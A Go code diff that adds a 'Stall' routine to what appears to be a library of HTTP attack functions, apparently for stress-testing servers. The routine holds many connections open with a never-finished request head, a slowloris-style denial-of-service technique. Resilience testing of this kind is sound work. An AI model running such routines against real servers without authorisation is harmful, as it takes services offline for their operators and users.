@@ -223,6 +223,25 @@ func Drip(n int, interval time.Duration) Attack {
 	}
 }
 
+// Stall has n connections send size bytes of a head that has no end.
+func Stall(n, size int) Attack {
+	field := strings.Repeat("x", size)
+	return func(ctx context.Context, t Target, tally *Tally) {
+		hold(ctx, n, rest, func(ctx context.Context) error {
+			conn, end, err := t.dial(ctx, false, tally)
+			if err != nil {
+				return err
+			}
+			defer end()
+			tally.Requests.Add(1)
+			if _, err := io.WriteString(conn, strings.TrimSuffix(t.head(1, "X-Stall: "+field), "\r\n")); err != nil {
+				return err
+			}
+			return drain(conn)
+		})
+	}
+}
+
 // Deaf sends a whole request every interval on each of n connections, and reads no
 // answer.
 func Deaf(n int, interval time.Duration) Attack {
